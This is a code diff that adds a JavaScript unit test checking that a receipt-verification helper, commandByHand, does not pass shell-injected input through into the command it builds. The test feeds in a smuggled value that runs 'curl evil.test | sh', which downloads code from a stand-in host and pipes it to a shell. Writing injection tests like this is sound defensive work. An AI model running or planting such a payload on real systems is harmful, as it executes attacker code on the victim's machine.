@@ -195,6 +195,12 @@ describe('the page of a receipt', () => {
 });
 
 describe('the check by hand', () => {
+  it('holds nothing of an altered receipt that a shell would run', () => {
+    const bytes = `{"a":{"receipt_sha256":"${hash('ab')}"},"b":{"receipt_sha256":"${hash('cd')}"}}`;
+    const command = commandByHand(bytes, "0'; curl evil.test | sh; '", 'receipt.json');
+    assert.equal(command, commandByHand('{}', hash('ab'), 'receipt.json'));
+  });
+
   const perl = spawnSync('perl', ['-v']).status === 0 && spawnSync('shasum', ['--version']).status === 0;
   const nested = {
     ...genericReceipt(),
